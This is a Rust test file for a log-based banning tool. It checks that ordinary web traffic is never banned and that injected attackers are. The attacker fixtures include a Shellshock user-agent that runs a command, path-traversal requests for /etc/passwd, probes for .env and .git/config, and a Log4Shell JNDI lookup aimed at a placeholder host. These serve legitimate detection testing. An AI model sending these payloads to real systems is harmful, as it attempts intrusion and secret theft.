//! Who is not banned by the shipped configuration: ordinary traffic, hours of it as lines with their own times
//! (`replay`), the short ones live. Each has attackers in its midst who are, so that "nobody" means something.

use std::collections::{BTreeMap, BTreeSet};
use std::process::{Command, Stdio};
use std::time::Instant;

use crate::support::{
    Connection, PROGRAM, Request, Setup, World, http2, secs, shipped_config, wait_until,
};

const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
const SITE: &str = "https://www.example.org/";
/// 2026-03-02 08:00:00 UTC.
const START: f64 = 1_772_438_400.0;

/// A log in the making.
struct Log {
    lines: Vec<(f64, String)>,
    random: u64,
}

/// One request, with what most of them have in common.
#[derive(Clone)]
struct Visit<'a> {
    ip: &'a str,
    user: &'a str,
    request: String,
    status: u16,
    referer: &'a str,
    agent: &'a str,
}

impl<'a> Visit<'a> {
    fn get(ip: &'a str, path: &str, status: u16) -> Self {
        Self {
            ip,
            user: "-",
            request: format!("GET {path} HTTP/1.1"),
            status,
            referer: SITE,
            agent: FIREFOX,
        }
    }
}

impl Log {
    fn new() -> Self {
        Self {
            lines: Vec::new(),
            random: 0x2545_F491_4F6C_DD1D,
        }
    }

    /// xorshift64*: the same numbers in each run.
    fn below(&mut self, n: u64) -> u64 {
        self.random ^= self.random >> 12;
        self.random ^= self.random << 25;
        self.random ^= self.random >> 27;
        (self.random.wrapping_mul(0x2545_F491_4F6C_DD1D) >> 33) % n
    }

    fn one_in(&mut self, n: u64) -> bool {
        self.below(n) == 0
    }

    /// A line `at` seconds after the start.
    fn add(&mut self, at: f64, visit: &Visit<'_>) {
        let Visit {
            ip,
            user,
            request,
            status,
            referer,
            agent,
        } = visit;
        let time = chrono::DateTime::from_timestamp((START + at) as i64, 0)
            .expect("a time")
            .format("%d/%b/%Y:%H:%M:%S +0000");
        let bytes = if *status == 304 { 0 } else { 1234 };
        let line = format!(
            "{ip} - {user} [{time}] \"{request}\" {status} {bytes} \"{referer}\" \"{agent}\""
        );
        self.lines.push((at, line));
    }

    /// One of each kind that must be banned, at `at`, within a minute. Address to jail.
    fn attackers(&mut self, at: f64) -> BTreeMap<String, String> {
        for i in 0..120 {
            self.add(at, &Visit::get("203.0.113.201", &format!("/page?{i}"), 200));
        }
        for i in 0..20 {
            let path = format!("/wp-content/plugins/{i}/readme");
            self.add(at + f64::from(i), &Visit::get("203.0.113.202", &path, 404));
            let mut guess = Visit::get("203.0.113.203", "/private/", 401);
            guess.user = "admin";
            self.add(at + f64::from(i), &guess);
        }
        let mut shellshock = Visit::get("203.0.113.204", "/", 200);
        shellshock.agent = "() { :; }; /bin/bash -c id";
        self.add(at, &shellshock);
        for (i, path) in ["/.env", "/.git/config", "/a/../../../../etc/passwd"]
            .iter()
            .enumerate()
        {
            self.add(at + i as f64, &Visit::get("203.0.113.205", path, 404));
        }
        [
            ("203.0.113.201", "apache-dos"),
            ("203.0.113.202", "apache-scan"),
            ("203.0.113.203", "apache-auth"),
            ("203.0.113.204", "apache-exploit-agent"),
            ("203.0.113.205", "apache-exploit-path"),
        ]
        .map(|(ip, jail)| (ip.to_owned(), jail.to_owned()))
        .into()
    }

    /// Who the shipped configuration bans, and for what, by the log's own times.
    fn judged(mut self) -> BTreeSet<(String, String)> {
        self.lines.sort_by(|a, b| a.0.total_cmp(&b.0));
        let text: String = self
            .lines
            .iter()
            .map(|(_, line)| format!("{line}\n"))
            .collect();
        let mut child = Command::new(PROGRAM)
            .args(["replay", "--json", "--format", "combined", "--config"])
            .arg(shipped_config())
            .arg("-")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("replay");
        let mut stdin = child.stdin.take().expect("piped");
        let writer =
            std::thread::spawn(move || std::io::Write::write_all(&mut stdin, text.as_bytes()));
        let output = child.wait_with_output().expect("replay");
        let written = writer.join().expect("the writer");
        assert!(
            output.status.success(),
            "replay: {} {}",
            output.status,
            String::from_utf8_lossy(&output.stderr)
        );
        written.expect("replay reads all");
        String::from_utf8(output.stdout)
            .expect("text")
            .lines()
            .map(|line| serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}")))
            .filter(|decision: &serde_json::Value| decision["action"] == "ban")
            .map(|decision| {
                let word = |key: &str| decision[key].as_str().expect("a word").to_owned();
                (word("ip"), word("jail"))
            })
            .collect()
    }

    /// Panics unless exactly the attackers among it are banned.
    #[track_caller]
    fn assert_only_attackers_are_banned(mut self, at: f64) {
        let attackers: BTreeSet<(String, String)> = self.attackers(at).into_iter().collect();
        let lines = self.lines.len();
        let judged = self.judged();
        let innocent: Vec<_> = judged.difference(&attackers).collect();
        let missed: Vec<_> = attackers.difference(&judged).collect();
        assert!(
            innocent.is_empty() && missed.is_empty(),
            "of {lines} lines: innocent but banned: {innocent:?}; not banned: {missed:?}"
        );
    }
}

/// One view of a page: the page, its scripts, style sheets and pictures, and what the scripts ask for.
fn page_view(log: &mut Log, at: f64, ip: &str, name: &str, pictures: u32, calls: u32, again: bool) {
    log.add(at, &Visit::get(ip, name, 200));
    for i in 0..pictures {
        let (path, cached) = match i % 5 {
            0 => (format!("/js/part{i}.js?v=7"), again),
            1 => (format!("/css/{i}.css"), again),
            2 => (format!("/fonts/{i}.woff2"), again),
            3 => (format!("/media/{i}"), true), // without an ending; a 304 says what it is
            _ => (format!("/img/{i}.webp"), again && i % 3 == 0),
        };
        let (path, cached) = if i % 5 == 3 && !again {
            (format!("/media/{i}.jpg"), false)
        } else {
            (path, cached)
        };
        let status = if cached { 304 } else { 200 };
        log.add(at + 0.1, &Visit::get(ip, &path, status));
    }
    for i in 0..calls {
        log.add(
            at + 0.3,
            &Visit::get(ip, &format!("/api/{i}?page={name}"), 200),
        );
    }
}

#[test]
fn a_page_of_150_pictures_reloaded_five_times_bans_nobody() {
    let mut log = Log::new();
    for reload in 0..5 {
        page_view(
            &mut log,
            f64::from(reload),
            "198.51.100.7",
            "/gallery",
            150,
            6,
            reload > 0,
        );
    }
    log.assert_only_attackers_are_banned(2.0);
}

#[test]
fn fifty_people_behind_one_address_for_two_hours_ban_nobody() {
    let mut log = Log::new();
    let nat = "198.51.100.8";
    for person in 0..50u64 {
        // Everybody comes within the first half hour and logs in; eight mistype, two of them twice.
        let mut at = log.below(1800) as f64;
        let user = format!("person{person}");
        let mistakes = u64::from(person % 8 == 3) + u64::from(person % 25 == 4) * 2;
        for _ in 0..mistakes {
            let mut typo = Visit::get(nat, "/intranet/", 401);
            typo.user = &user;
            log.add(at, &typo);
            at += 6.0;
        }
        while at < 7200.0 {
            let page = log.below(200);
            page_view(&mut log, at, nat, &format!("/intranet/{page}"), 25, 4, true);
            if log.one_in(40) {
                // The site has a handful of dead links, and everybody finds the same ones.
                let dead = log.below(6);
                log.add(
                    at + 1.0,
                    &Visit::get(nat, &format!("/intranet/dead-link-{dead}"), 404),
                );
            }
            // Between four seconds and a minute and a half.
            at += 4.0 + log.below(86) as f64;
        }
    }
    log.assert_only_attackers_are_banned(3000.0);
}

#[test]
fn speculative_connections_that_time_out_ban_nobody() {
    let mut log = Log::new();
    for i in 0..600 {
        // Six at each page view, closed by httpd: no request, no referer, no agent.
        let mut silent = Visit::get("198.51.100.9", "/", 408);
        (silent.request, silent.referer, silent.agent) = ("-".into(), "-", "-");
        log.add(f64::from(i / 6) * 5.0, &silent);
        if i % 6 == 0 {
            page_view(
                &mut log,
                f64::from(i / 6) * 5.0,
                "198.51.100.9",
                "/",
                20,
                2,
                true,
            );
        }
    }
    log.assert_only_attackers_are_banned(100.0);
}

#[test]
fn caldav_phones_and_mounted_webdav_folders_ban_nobody() {
    let mut log = Log::new();
    // Three phones of one household: each session begins with 401s without a name, every five minutes all day.
    for phone in 0..3 {
        for sync in 0..288 {
            let at = f64::from(sync) * 300.0 + f64::from(phone);
            for (i, path) in [
                "/",
                "/calendars/anna/",
                "/addressbooks/anna/",
                "/principals/anna/",
            ]
            .iter()
            .enumerate()
            {
                let mut first = Visit::get("198.51.100.10", path, 401);
                first.request = format!("PROPFIND {path} HTTP/1.1");
                (first.referer, first.agent) = ("-", "iOS/18.1 (22B83) accountsd/1.0");
                log.add(at + i as f64 * 0.2, &first);
                let mut second = first.clone();
                (second.user, second.status) = ("anna", 207);
                log.add(at + i as f64 * 0.2 + 0.1, &second);
            }
        }
    }
    // A Mac with a mounted folder asks for each file's shadow and for what it calls its own in each folder.
    for folder in 0..30 {
        for file in 0..20 {
            let at = f64::from(folder) * 4.0 + f64::from(file) * 0.1;
            let path = format!("/dav/folder{folder}/._IMG_{file}.jpg");
            let mut probe = Visit::get("198.51.100.11", &path, 404);
            probe.request = format!("PROPFIND {path} HTTP/1.1");
            (probe.user, probe.agent) = ("anna", "WebDAVFS/3.0.0 (03008000) Darwin/24.1.0 (arm64)");
            log.add(at, &probe);
            if file == 0 {
                probe.request = format!("PROPFIND /dav/folder{folder}/.DS_Store HTTP/1.1");
                log.add(at, &probe);
            }
        }
    }
    log.assert_only_attackers_are_banned(300.0);
}

#[test]
fn a_search_engine_after_a_site_migration_bans_nobody() {
    let mut log = Log::new();
    let google = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    let bing = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; \
                +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36";
    // Each takes one old address after the other, two a second for an hour; half of them are gone, no two alike.
    for i in 0..7200u32 {
        for (ip, agent) in [("198.51.100.12", google), ("198.51.100.13", bing)] {
            let path = format!("/2019/article-{i}.html");
            let status = [404, 301, 404, 200][(i % 4) as usize];
            let mut visit = Visit::get(ip, &path, status);
            (visit.referer, visit.agent) = ("-", agent);
            log.add(f64::from(i) * 0.5, &visit);
        }
    }
    log.assert_only_attackers_are_banned(600.0);
}

#[test]
fn a_monitoring_probe_every_second_bans_nobody_through_an_outage_either() {
    let mut log = Log::new();
    for i in 0..3600 {
        for path in ["/health", "/", "/api/ready"] {
            let status = if (900..1500).contains(&i) { 503 } else { 200 };
            let mut probe = Visit::get("198.51.100.13", path, status);
            (probe.referer, probe.agent) = ("-", "Uptime-Kuma/1.23.13");
            log.add(f64::from(i), &probe);
        }
        // A probe that was set up for a page that has gone.
        let mut stale = Visit::get("198.51.100.14", "/old-health", 404);
        (stale.referer, stale.agent) = ("-", "check_http/v2.3.3 (monitoring-plugins 2.3.3)");
        log.add(f64::from(i), &stale);
    }
    log.assert_only_attackers_are_banned(60.0);
}

#[test]
fn a_page_elsewhere_cannot_get_its_readers_banned() {
    let mut log = Log::new();
    // One line of HTML on a stranger's page, whose address holds the string; readers come alone and behind one NAT,
    // and some of them reload.
    let referer = "https://blog.example.net/?q=${jndi:ldap://203.0.113.9/a}";
    for reader in 0..300u32 {
        let own = format!("198.18.0.{}", reader % 250);
        let ip = if reader % 3 == 0 {
            "198.51.100.15"
        } else {
            &own
        };
        for again in 0..4 {
            let mut image = Visit::get(ip, "/.env", 404);
            image.referer = referer;
            log.add(f64::from(reader) + f64::from(again) * 0.5, &image);
        }
        page_view(&mut log, f64::from(reader) + 3.0, ip, "/", 10, 1, true);
    }
    log.assert_only_attackers_are_banned(100.0);
}

/// What must be banned, live: one shellshock line, and fifteen missing pages.
fn attackers_are_banned(world: &World) {
    let shellshock = ["-A", "() { :; }; id"];
    world.curl_with("203.0.113.204", "/page", &shellshock);
    world.wait_banned("apache-exploit-agent", "203.0.113.204");
    let mut scan = Connection::open(world, "203.0.113.202").expect("a connection");
    for i in 0..15 {
        scan.ask(&Request::get(format!("/plugins/{i}"))).ok();
    }
    world.wait_banned("apache-scan", "203.0.113.202");
    assert_eq!(
        world.banned_anywhere().len(),
        2,
        "{:?}",
        world.banned_anywhere()
    );
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_real_http2_page_of_150_pictures_reloaded_five_times_bans_nobody() {
    let world = World::new();
    world.shipped();
    let pages = world.path("pages").display().to_string();
    let httpd = Setup::new(&world)
        .conf(&format!(
            "Protocols h2c http/1.1
            AliasMatch ^/pictures/ {pages}/picture.png\nAliasMatch ^/scripts/ {pages}/style.css"
        ))
        .start();
    let start = Instant::now();
    for reload in 0..5 {
        let mut paths = vec![format!("/page?reload={reload}")];
        paths.extend((0..100).map(|i| format!("/pictures/{i}.png")));
        paths.extend((0..50).map(|i| format!("/scripts/{i}.js?v=7")));
        let good = http2(&world, "198.51.100.7", &paths).expect("answers");
        assert_eq!(good, 151, "reload {reload}");
    }
    let took = start.elapsed();
    assert!(took < secs(10), "{took:?} is too slow to mean anything");
    wait_until("755 lines", secs(5), || {
        httpd.tee().iter().filter(|&&b| b == b'\n').count() == 755
    });
    let log = String::from_utf8_lossy(&httpd.tee()).into_owned();
    assert_eq!(log.matches(" HTTP/2.0\"").count(), 755);
    attackers_are_banned(&world);
    httpd.assert_tee_is_complete();
}

#[test]
#[ignore = "needs root and network namespaces"]
fn real_speculative_connections_ban_nobody() {
    let world = World::new();
    world.shipped();
    let httpd = Setup::new(&world)
        .conf("RequestReadTimeout handshake=0 header=1 body=5")
        .start();
    let silent: Vec<Connection> = (0..60)
        .map(|_| Connection::open(&world, "198.51.100.9").expect("a connection"))
        .collect();
    wait_until("60 lines of timeouts", secs(10), || {
        String::from_utf8_lossy(&httpd.tee())
            .matches(" 408 ")
            .count()
            == 60
    });
    drop(silent);
    attackers_are_banned(&world);
}

#[test]
#[ignore = "needs root and network namespaces"]
fn real_webdav_sessions_and_readers_of_a_page_elsewhere_ban_nobody() {
    let world = World::new();
    world.shipped();
    let httpd = Setup::new(&world).start();
    let mut mac = Connection::open(&world, "198.51.100.11").expect("a connection");
    for i in 0..60 {
        assert_eq!(
            mac.ask(&Request::get("/private/page")).expect("an answer"),
            401
        );
        let shadow = Request::get(format!("/private/._{i}.jpg")).login("reader", "secret");
        assert_eq!(mac.ask(&shadow).expect("an answer"), 404);
    }
    for reader in 0..40 {
        // Half of them share an address.
        let from = if reader % 2 == 0 {
            "198.51.100.15".to_owned()
        } else {
            format!("198.18.0.{reader}")
        };
        let image = Request::get("/.env").agent(FIREFOX).header(
            "Referer",
            "https://blog.example.net/?q=${jndi:ldap://203.0.113.9/a}",
        );
        let mut connection = Connection::open(&world, &from).expect("a connection");
        assert_eq!(connection.ask(&image).expect("an answer"), 404);
    }
    wait_until("160 lines", secs(5), || {
        httpd.tee().iter().filter(|&&b| b == b'\n').count() == 160
    });
    attackers_are_banned(&world);
}
